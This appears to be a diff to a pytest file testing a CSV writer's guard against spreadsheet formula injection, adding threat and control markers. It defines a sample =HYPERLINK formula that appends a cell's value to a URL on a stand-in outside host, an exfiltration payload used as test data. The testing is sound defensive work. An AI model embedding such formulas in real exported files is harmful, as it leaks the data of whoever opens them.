@@ -28,6 +28,16 @@ from lab.tables.spreadsheet_csv import escape_formulas, save_csv, unescape_formu
 from lab.tables.table_reader import read_table
 from tests.support.contract_papers import keyed
 
+pytestmark = pytest.mark.threat(
+    "Formulas in results",
+    who="a stranger",
+    wants="to have a cell computed by the spreadsheet of whoever opens a result",
+    stopped_by={
+        "formula guard": "One writer makes every table for people. It follows OWASP's rule for formulas.",
+    },
+    code=["lab.tables.spreadsheet_csv"],
+)
+
 LINK = '=HYPERLINK("https://elsewhere.example/?"&A2,"open")'
 FORMULAS = {
     "link": LINK,
@@ -88,10 +98,12 @@ def result(tmp_path: Path) -> pl.DataFrame:
     return match_table(portfolio, np.arange(len(portfolio.codes), dtype=np.int64))
 
 
+@pytest.mark.without_control("formula guard")
 def test_without_the_guard_a_clients_number_is_computed(result: pl.DataFrame) -> None:
     assert LINK in computed(former(result)) and len(computed(former(result))) > len(FORMULAS)
 
 
+@pytest.mark.with_control("formula guard")
 def test_no_cell_of_a_result_is_computed(result: pl.DataFrame, tmp_path: Path) -> None:
     write_result_table(result, tmp_path / "matched.csv")
     data = (tmp_path / "matched.csv").read_bytes()
